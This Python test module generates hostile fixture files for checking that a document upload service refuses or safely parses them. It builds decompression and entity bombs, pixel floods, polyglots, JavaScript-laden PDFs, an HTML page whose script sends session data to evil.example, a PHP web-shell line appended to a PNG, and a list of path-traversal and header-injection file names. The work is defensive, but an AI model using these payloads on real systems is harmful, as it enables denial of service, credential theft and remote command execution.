"""Generated hostile files: the attacks the corpus in tests/fixtures/hostile/ does not carry.

Every generator is deterministic and small on disk (the bombs expand, they are not big).
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib


def pdf(objects: list[bytes], root: int = 1, *, trailer_extra: bytes = b"") -> bytes:
    """A PDF with a correct xref table from numbered object bodies (object i+1 = objects[i])."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"", *, flate=False) -> bytes:
    if flate:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text_page_objects(text: bytes, extra_catalog: bytes = b"", page_extra: bytes = b"") -> list[bytes]:
    content = b"BT /F1 14 Tf 72 720 Td (" + text + b") Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_with_javascript() -> bytes:
    """OpenAction + page open action + a Launch and a URI action: never run, the text is read."""
    js = b"app.alert('pwned'); this.submitForm('https://evil.example/steal');"
    objs = _text_page_objects(b"NOTICE OF HEARING javascript attack", b"/OpenAction 6 0 R /Names << /JavaScript 7 0 R >> ",
                              b"/AA << /O 8 0 R >> ")
    objs += [b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>",
             b"<< /Names [(x) 6 0 R] >>",
             b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"]
    return pdf(objs)


def pdf_deep_arrays(depth: int = 200_000) -> bytes:
    nested = b"[" * depth + b"]" * depth
    objs = _text_page_objects(b"deep arrays", b"/Deep 6 0 R ")
    objs.append(nested)
    return pdf(objs)


def pdf_deep_dicts(depth: int = 100_000) -> bytes:
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    objs = _text_page_objects(b"deep dictionaries", b"/Deep 6 0 R ")
    objs.append(nested)
    return pdf(objs)


def pdf_page_tree_cycle() -> bytes:
    """A page tree whose Kids point back at itself, claiming a billion pages."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000000 >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000000000 >>"])


def pdf_reference_loop() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R"])


def pdf_content_bomb(expanded_mb: int = 600) -> bytes:
    """A content stream of ~600 MB of spaces, deflated to well under a megabyte."""
    comp = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    data = b"".join(comp.compress(chunk) for _ in range(expanded_mb)) + comp.compress(b"BT ET") + comp.flush()
    objs = _text_page_objects(b"bomb")
    objs[3] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return pdf(objs)


def pdf_image_pixel_flood() -> bytes:
    """A page whose only image claims 100000 x 100000 pixels (deflated zeros)."""
    data = zlib.compress(b"\x00" * 1_000_000, 9)
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
        _stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    ])


def png_pixel_flood(width: int = 100_000, height: int = 100_000) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = zlib.compress(b"\x00" * 65536, 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


def jpeg_pixel_flood() -> bytes:
    """A baseline JPEG header claiming 65500 x 65500 pixels and almost no data."""
    from PIL import Image
    buf = io.BytesIO()
    Image.new("L", (8, 8), 255).save(buf, "JPEG")
    data = bytearray(buf.getvalue())
    i = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, i + 5, 65500, 65500)
    return bytes(data)


def tiff_pixel_flood() -> bytes:
    """A little-endian TIFF whose one strip claims 1,000,000 x 1,000,000 pixels."""
    entries = [(256, 4, 1, 1_000_000), (257, 4, 1, 1_000_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1), (278, 4, 1, 1_000_000), (279, 4, 1, 16)]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, typ, count) + (struct.pack("<HH", val, 0) if typ == 3 else struct.pack("<I", val))
        for tag, typ, count, val in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 16


def polyglot_exe_pdf() -> bytes:
    """A Windows executable header with a PDF right behind it (opens in PDF readers, runs as .exe)."""
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + pdf(_text_page_objects(b"polyglot exe"))


def polyglot_zip_pdf() -> bytes:
    """A JAR/ZIP whose first entry holds a PDF (the PDF header lands inside the first kilobyte)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a.pdf", pdf(_text_page_objects(b"polyglot zip")))
        zf.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
    return buf.getvalue()


def polyglot_html_pdf() -> bytes:
    return b"<html><body><script>alert(document.cookie)</script>" + pdf(_text_page_objects(b"polyglot html"))


def polyglot_pdf_with_trailing_zip() -> bytes:
    """A valid PDF with a ZIP appended: a PDF, and served only as one."""
    return pdf(_text_page_objects(b"PDF with a zip tail")) + polyglot_zip_pdf()


def png_with_html_tail() -> bytes:
    from PIL import Image
    buf = io.BytesIO()
    Image.new("RGB", (40, 20), "white").save(buf, "PNG")
    return buf.getvalue() + b"<script>alert(1)</script><?php system($_GET['c']); ?>"


def svg_with_script() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"


def html_as_text() -> bytes:
    return b"Dear tenant,\n<script>fetch('/api/v1/auth/me')</script>\nPay now.\n"


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb.txt", b"0" * (50 << 20))
    return buf.getvalue()


def text_bomb_lines() -> bytes:
    """2 MB of one line without a newline or form feed (pathological for line-oriented parsing)."""
    return (b"ANSWER DUE " + b"a" * (2 << 20) + b"\n")


def docx_deflate_bomb(filler: str = "0") -> bytes:
    """A Word file whose body inflates to 200 MB (about 200 KB on disk)."""
    from tests.documents import samples
    return samples.docx([], xml="<w:document>" + filler * (200 << 20) + "</w:document>")


def docx_entity_bomb() -> bytes:
    """A Word body with a billion-laughs DTD."""
    from tests.documents import samples
    lol = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
           + f']><w:document xmlns:w="{samples.W_NS}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body>'
           "</w:document>")
    return samples.docx([], xml=lol)


def docx_member_flood() -> bytes:
    from tests.documents import samples
    return samples.docx(["x"], members={f"word/media/{i}.bin": b"" for i in range(6000)},
                        compression=zipfile.ZIP_STORED)


def _eml_head(subject: bytes) -> bytes:
    return b"From: a@example.org\r\nTo: b@example.org\r\nSubject: " + subject + b"\r\nMIME-Version: 1.0\r\n"


def eml_nesting_bomb(depth: int = 2000) -> bytes:
    """multipart inside multipart, 2000 deep."""
    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    for i in range(depth):
        body = (f"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n".encode() + body
                + f"\r\n--b{i}--\r\n".encode())
    return _eml_head(b"nested") + body


def eml_part_flood(parts: int = 20_000) -> bytes:
    return (_eml_head(b"parts") + b"Content-Type: multipart/mixed; boundary=zz\r\n\r\n"
            + b"--zz\r\nContent-Type: text/plain\r\n\r\nx\r\n" * parts + b"--zz--\r\n")


def eml_hostile_attachments() -> bytes:
    """A message carrying a pixel flood, a polyglot, a Word bomb and a message inside a message
    inside a message: the message is read; each attachment meets the guards of its own type, and
    an attached message is not split again."""
    from tests.documents import samples
    inner = samples.nef_email(attachments=[("deeper.eml", "message/rfc822", samples.nef_email())])
    return samples.nef_email(attachments=[
        ("flood.png", "image/png", png_pixel_flood(99_999, 99_999)),  # not the same bytes as the upload above
        ("polyglot.pdf", "application/pdf", polyglot_exe_pdf()),
        # not the same bytes as the deflate_bomb.docx upload either: a duplicate would not become a document
        ("bomb.docx", "application/octet-stream", docx_deflate_bomb(filler="1")),
        ("forwarded.eml", "message/rfc822", inner)])


def html_hostile_page() -> bytes:
    """A web page full of active content: read as text, nothing in it runs, served only as a download."""
    return (b"<!DOCTYPE html><html><head><meta http-equiv='refresh' content='0;url=https://evil.example/'>"
            b"<script>fetch('/api/v1/auth/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
            b"<base href='https://evil.example/'></head><body onload='alert(1)'><iframe src='javascript:alert(2)'>"
            b"</iframe><p>NOTICE OF HEARING</p><svg><script>alert(3)</script></svg>"
            + b"<div>" * 20_000 + b"</body></html>")


GENERATED = {
    "javascript_actions.pdf": pdf_with_javascript,
    "deep_arrays.pdf": pdf_deep_arrays,
    "deep_dictionaries.pdf": pdf_deep_dicts,
    "page_tree_cycle.pdf": pdf_page_tree_cycle,
    "reference_loop.pdf": pdf_reference_loop,
    "content_stream_bomb.pdf": pdf_content_bomb,
    "image_pixel_flood.pdf": pdf_image_pixel_flood,
    "pixel_flood.png": png_pixel_flood,
    "pixel_flood.jpg": jpeg_pixel_flood,
    "pixel_flood.tif": tiff_pixel_flood,
    "polyglot_exe.pdf": polyglot_exe_pdf,
    "polyglot_zip.pdf": polyglot_zip_pdf,
    "polyglot_html.pdf": polyglot_html_pdf,
    "pdf_with_zip_tail.pdf": polyglot_pdf_with_trailing_zip,
    "png_with_html_tail.png": png_with_html_tail,
    "script.svg": svg_with_script,
    "html_as_text.txt": html_as_text,
    "zip_bomb.zip": zip_bomb,
    "one_huge_line.txt": text_bomb_lines,
    "deflate_bomb.docx": docx_deflate_bomb,
    "entity_bomb.docx": docx_entity_bomb,
    "member_flood.docx": docx_member_flood,
    "nesting_bomb.eml": eml_nesting_bomb,
    "part_flood.eml": eml_part_flood,
    "hostile_attachments.eml": eml_hostile_attachments,
    "active_content.html": html_hostile_page,
}

# Uploads these must refuse outright (415), whatever their name.
MUST_REFUSE = {"polyglot_exe.pdf", "polyglot_zip.pdf", "polyglot_html.pdf", "script.svg", "html_as_text.txt",
               "zip_bomb.zip"}

HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\fakepath\\order.pdf",
    'order"; filename="evil.exe',
    "order.pdf\r\nSet-Cookie: pwned=1",
    "\u202efdp.exe",  # right-to-left override: shows as "exe.pdf"
    "con.pdf",
    "%2e%2e%2f%2e%2e%2fsecret.pdf",
    "<script>alert(1)</script>.pdf",
    "....",
    ".htaccess",
    "a" * 300 + ".pdf",
    "motion\x00.pdf.exe",
    "résumé d’ordonnance 法院命令 🧾.pdf",
    "invoice.pdf.exe",
]
